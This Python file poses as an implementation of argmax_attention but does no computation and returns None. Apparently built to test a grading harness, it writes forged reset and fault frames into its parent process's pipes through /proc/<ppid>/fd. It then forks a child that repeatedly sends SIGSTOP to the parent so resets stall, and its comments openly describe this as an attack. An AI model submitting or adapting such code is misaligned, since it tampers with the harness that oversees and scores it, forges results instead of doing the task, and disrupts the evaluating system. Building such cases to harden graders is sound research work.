"""The parent: reopen the worker's first process's pipes through /proc/<ppid>/fd and write
forged resets, interrupts and faults on them; then, from a process of its own, stop the first process (SIGSTOP)
again and again after the reply, so that every reset would wait."""

import fcntl
import json
import os
import signal
import struct
import termios
import time


def _frame(header: dict) -> bytes:
    head = json.dumps(dict(header, blob_sizes=[], blob_dtypes=[])).encode()
    return struct.pack("<Q", len(head)) + head


def _forge() -> list[int]:
    first = os.getppid()
    forged = b"".join(_frame({"id": i, "ok": True, "reset": True}) for i in range(1, 200))
    forged += b"".join(_frame({"id": i, "ok": False, "fault": "forged fault"}) for i in range(1, 200))
    opened = []
    for n in range(64):
        try:
            fd = os.open(f"/proc/{first}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        opened.append(n)
        try:
            os.write(fd, forged[:60000])
        except OSError:
            pass
        os.close(fd)
    return opened


def _unrelayed() -> int:
    """Bytes printed that the first process has not yet passed on (its output pipe's fill); 0 where it cannot say."""
    try:
        return struct.unpack("i", fcntl.ioctl(1, termios.FIONREAD, b"\0" * 4))[0]
    except OSError:
        return 0


def _stop_later() -> None:
    first = os.getppid()
    if os.fork():
        return
    time.sleep(0.01)
    # The stops start once what was printed above has been passed on (on a busy machine the first process may not yet
    # have run), so that a stop cannot take this attack's own record with it; they still land before the reset.
    deadline = time.monotonic() + 3
    while _unrelayed() and time.monotonic() < deadline:
        time.sleep(0.001)
    outcome = "no chance"
    for attempt in range(300):
        if attempt:
            time.sleep(0.01)
        try:
            os.kill(first, signal.SIGSTOP)
            outcome = "sent"
        except OSError as exc:
            outcome = f"refused ({exc.errno})"
            break
    print(f"parent: SIGSTOP {outcome}", flush=True)
    os._exit(0)


def argmax_attention(Q, K, V):
    print(f"parent: /proc/<first>/fd opened {_forge()}", flush=True)
    _stop_later()
    return None
